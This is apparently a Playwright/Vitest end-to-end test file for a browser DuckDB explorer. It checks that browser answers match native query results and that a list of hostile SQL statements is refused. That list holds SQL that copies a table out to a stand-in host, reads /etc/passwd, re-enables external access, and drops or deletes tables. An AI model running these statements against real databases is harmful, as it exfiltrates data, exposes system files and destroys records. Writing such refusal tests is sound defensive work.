import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { questionsFor } from '../../src/model/questions.ts';
import { askQuestion } from '../../src/warehouse/answers.ts';
import { openDatabase } from '../../src/warehouse/database.ts';
import { connect } from './connect.ts';
import { type Explored, openExplorer, run, start } from './explore-page.ts';

const sets = [
  { set: 'real', path: '/explore/', file: 'data/scorecard.duckdb' },
  { set: 'sample', path: '/en/sample/explore/', file: 'sample/data/mau-scorecard.duckdb' },
] as const;

let browser: Browser;

beforeAll(async () => {
  browser = await connect();
});

afterAll(() => browser.close());

/** The whole answer as the page hands it out, row by row, each with its columns in order. */
async function takeAnswer(page: Page): Promise<readonly (readonly unknown[])[]> {
  await page.evaluate(() => navigator.clipboard.writeText(''));
  await page.locator('[data-part="copy-json"]').click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).not.toBe('');
  const text = await page.evaluate(() => navigator.clipboard.readText());
  const rows: unknown = JSON.parse(text);
  if (!Array.isArray(rows)) throw new Error(`not a list: ${text.slice(0, 80)}`);
  return rows.map((row: Readonly<Record<string, unknown>>) => Object.values(row));
}

describe.each(sets)('every ready question about the $set bodies', ({ set, path, file }) => {
  let explored: Explored;

  beforeAll(async () => {
    explored = await openExplorer(browser, path, { permissions: ['clipboard-read', 'clipboard-write'] });
    await start(explored.page);
  });

  test.each(questionsFor(set))('$id has the same answer in the browser and natively', async (question) => {
    const connection = await openDatabase(join(inject('rootFolder'), file), { access_mode: 'READ_ONLY' });
    const { rows } = await askQuestion(connection, question);
    connection.closeSync();
    await run(explored.page, question.sql);
    // What is taken along of sample data says so in a column of its own.
    const mark = set === 'sample' && question.columns.every(({ name }) => name !== 'sample') ? [true] : [];
    expect(rows.length).toBeGreaterThan(0);
    expect(await takeAnswer(explored.page)).toEqual(rows.map((row) => [...row, ...mark]));
    expect(explored.faults).toEqual([]);
  });
});

describe('a hostile question', () => {
  const hostile = [
    "COPY measures TO 'https://elsewhere.example/x.csv'",
    "ATTACH 'https://elsewhere.example/x.duckdb' AS x",
    "SELECT * FROM read_csv('https://elsewhere.example/x.csv')",
    "FROM 'https://elsewhere.example/x.csv'",
    "SELECT * FROM read_text('/etc/passwd')",
    'INSTALL json',
    'LOAD json',
    'SET enable_external_access = true',
    'RESET lock_configuration',
    'PRAGMA database_list',
    'SELECT current_date',
    'CREATE TABLE t AS SELECT 1',
    'DROP TABLE measure_rows',
    'WITH gone AS (SELECT 1) DELETE FROM agencies',
    'EXPLAIN ANALYZE DELETE FROM agencies',
    "SELECT * FROM query('COPY agencies TO ''x.csv''')",
  ];
  let explored: Explored;

  beforeAll(async () => {
    explored = await openExplorer(browser, '/en/explore/');
    await start(explored.page);
  });

  test.each(hostile)('%s is refused in plain words, and the next one is answered', async (sql) => {
    expect(await run(explored.page, sql)).not.toMatch(/\brows?\b.*second/);
    const words = await explored.page.locator('#result').innerText();
    expect(words).not.toMatch(/undefined|\{"exception|signature mismatch/);
    expect(await run(explored.page, 'SELECT count(*) AS n FROM agencies')).toMatch(/^1 row/);
    expect(explored.faults).toEqual([]);
  });
});
